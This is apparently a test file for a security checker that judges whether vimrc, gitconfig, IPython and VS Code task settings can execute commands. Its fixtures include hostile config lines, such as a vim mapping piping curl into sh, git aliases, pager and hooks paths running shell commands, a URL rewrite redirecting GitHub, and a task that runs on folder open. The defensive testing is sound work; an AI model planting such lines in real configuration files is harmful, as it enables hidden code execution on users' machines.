/** Settings files whose written text runs nothing (src/engine/extract/tool-call/settings.ts). */
import { describe, expect, it } from 'vitest';
import { inertSettings, vscodeTaskCommands } from '../../../../src/engine/extract/tool-call/settings.js';

describe('inertSettings', () => {
  it.each([
    ['/home/u/.vimrc', 'set number\nsyntax on\nlet mapleader = ","\nnnoremap <leader>w :w<CR>\n', true],
    ['/home/u/.vimrc', 'nnoremap <leader>u :!curl x | sh<CR>\n', false],
    ['/home/u/.vimrc', 'autocmd BufWritePost * silent call system("sh")\n', false],
    ['/home/u/.vimrc', 'let g:x = system("id")\n', false],
    ['/home/u/.gitconfig', '[user]\n\tname = a\n\temail = a@b.dev\n[pull]\n\trebase = true\n', true],
    ['/home/u/.gitconfig', '[core]\n\teditor = code --wait\n[alias]\n\tst = status -sb\n', true],
    ['/home/u/.gitconfig', '[alias]\n\tx = !sh -c id\n', false],
    ['/home/u/.gitconfig', '[core]\n\tpager = sh -c id\n', false],
    ['/home/u/.gitconfig', '[core]\n\thooksPath = /tmp/h\n', false],
    ['/home/u/.gitconfig', '[include]\n\tpath = /tmp/x\n', false],
    ['/home/u/.gitconfig', '[url "https://x.example/"]\n\tinsteadOf = https://github.com/\n', false],
    ['repo/.git/config', '[filter "x"]\n\tclean = sh\n', false],
    [
      '/home/u/.ipython/profile_default/ipython_config.py',
      "c = get_config()\nc.TerminalInteractiveShell.editing_mode = 'vi'\n",
      true,
    ],
    [
      '/home/u/.ipython/profile_default/ipython_config.py',
      "c.InteractiveShellApp.exec_lines = ['import os']\n",
      false,
    ],
    ['/home/u/.ipython/profile_default/ipython_config.py', 'c.X.y = __import__("os").system("id")\n', false],
    ['/home/u/.bashrc', 'set -o vi\n', false],
    ['/home/u/.vimrc', '', false],
  ])('%s %j', (path, content, want) => {
    expect(inertSettings(path, content)).toBe(want);
  });
});

describe('vscodeTaskCommands', () => {
  it.each([
    ['{"tasks": [{"label": "b", "type": "npm", "script": "build"}]}', ''],
    ['{"tasks": [{"type": "shell", "command": "npm", "args": ["test"]},]} // jsonc', "npm 'test'"],
    ['{"tasks": [{"command": "npm ci", "runOptions": {"runOn": "folderOpen"}}]}', undefined],
    ['{"tasks": [{"command": "make", "linux": {"command": "sh x.sh"}}]}', 'make\nsh x.sh'],
    ['not json', undefined],
  ])('%s', (content, want) => {
    expect(vscodeTaskCommands(content)).toBe(want);
  });
});
